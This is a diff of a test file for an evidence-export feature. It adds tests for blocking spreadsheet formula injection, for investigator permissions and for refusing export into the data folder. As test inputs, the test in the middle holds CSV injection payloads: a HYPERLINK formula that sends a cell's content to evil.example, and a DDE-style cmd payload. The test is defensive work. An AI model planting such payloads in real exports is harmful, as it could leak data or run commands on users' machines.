@@ -2,21 +2,28 @@ import { execFileSync } from 'node:child_process';
 import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { safeFileName } from '../../electron/core/services/evidence/export';
-import { minimalComplaint, openRegister, type Register } from './harness';
+import { csvCell, safeFileName } from '../../electron/core/services/evidence/export';
+import { minimalComplaint, openRegister, tempDir, type Register } from './harness';
+import { withStaff } from './staff';
 import { fixture, mustImport } from './evidenceHelpers';
 
 let reg: Register;
 let caseId: number;
 let usb: string;
+let stick: { dir: string; remove(): void };
 
 beforeEach(async () => {
   reg = await openRegister();
   caseId = (await reg.must<{ id: number }>('cases.register', minimalComplaint())).id;
-  usb = join(reg.dir, 'U盘');
+  // A folder outside the data folder, as a USB stick is.
+  stick = tempDir('complaintdesk-usb-');
+  usb = join(stick.dir, 'U盘');
   mkdirSync(usb);
 });
-afterEach(() => reg.close());
+afterEach(() => {
+  reg.close();
+  stick.remove();
+});
 
 describe('evidence.export', () => {
   it('copies the case’s evidence to a new folder with a manifest that sha256sum -c accepts, voided items left out', async () => {
@@ -60,6 +67,49 @@ describe('evidence.export', () => {
     await mustImport(reg, { caseId, name: 'a.jpg', kind: 'audiovisual' }, fixture('photo-exif.jpg'));
     expect(await reg.call('evidence.export', { caseId, dir: 'relative/dir' })).toMatchObject({ ok: false, error: { code: 'VALIDATION', fields: { dir: expect.any(String) } } });
     expect(await reg.call('evidence.export', { caseId, dir: join(usb, '不存在') })).toMatchObject({ ok: false, error: { code: 'VALIDATION', message: expect.stringContaining('找不到文件夹') } });
+  });
+});
+
+describe('evidence.export, what it lets out', () => {
+  it('writes names and descriptions that a spreadsheet would run as formulas as plain text (OWASP: a leading single quote)', async () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+    await mustImport(reg, { caseId, name: `${formulas[0]}.jpg`, kind: 'audiovisual', description: formulas[1] }, fixture('photo-exif.jpg'));
+    await mustImport(reg, { caseId, name: '=1+1.mp4', kind: 'audiovisual', description: formulas[3] }, fixture('clip.mp4'));
+    const out = await reg.must<{ dir: string }>('evidence.export', { caseId, dir: usb });
+    const rows = readFileSync(join(out.dir, '证据清单.csv'), 'utf8').slice(1).split('\r\n');
+    // Every cell of the data rows: none starts with a character a spreadsheet reads as a formula.
+    const cells = rows.slice(1).flatMap((r) => r.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []).map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(rows[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击查看"").jpg"`);
+    expect(rows[1]).toContain("'+1+cmd|' /C calc'!A0");
+    expect(rows[2]).toContain("'=1+1.mp4");
+    expect(rows[2]).toContain("'@SUM(A1:A9)");
+    // The copies keep their names; only the spreadsheet cells are neutralised.
+    expect(readdirSync(out.dir)).toContain('002-=1+1.mp4');
+  });
+
+  it('neutralises each character OWASP names, and leaves numbers and ordinary text alone', () => {
+    for (const f of ['=1', '+1', '-1', '@x', '\tx', '\rx']) expect(csvCell(f)).toMatch(/^"?'/);
+    expect(csvCell(-1)).toBe('-1');
+    expect(csvCell('电视屏幕-竖线')).toBe('电视屏幕-竖线');
+    expect(csvCell('a,b')).toBe('"a,b"');
+  });
+
+  it('lets an investigator export only the cases assigned to them, and nobody into the data folder', async () => {
+    const staff = await withStaff(reg);
+    await mustImport(reg, { caseId, name: 'a.jpg', kind: 'audiovisual' }, fixture('photo-exif.jpg'));
+    await staff.clerk.act(caseId, 'accept');
+    const refused = await staff.investigator.call('evidence.export', { caseId, dir: usb });
+    expect(refused).toMatchObject({ ok: false, error: { code: 'FORBIDDEN', message: expect.stringContaining('未指派给您，不能导出其证据') } });
+    expect(readdirSync(usb)).toEqual([]);
+    await staff.supervisor.act(caseId, 'assign', { userId: staff.investigator.user.id });
+    expect((await staff.investigator.call('evidence.export', { caseId, dir: usb })).ok).toBe(true);
+    expect((await staff.clerk.call('evidence.export', { caseId, dir: usb })).ok).toBe(true);
+
+    const inside = join(reg.dir, 'U盘');
+    mkdirSync(inside);
+    expect(await reg.call('evidence.export', { caseId, dir: inside })).toMatchObject({ ok: false, error: { code: 'VALIDATION', fields: { dir: expect.stringContaining('数据文件夹') } } });
+    expect(readdirSync(inside)).toEqual([]);
   });
 });
 
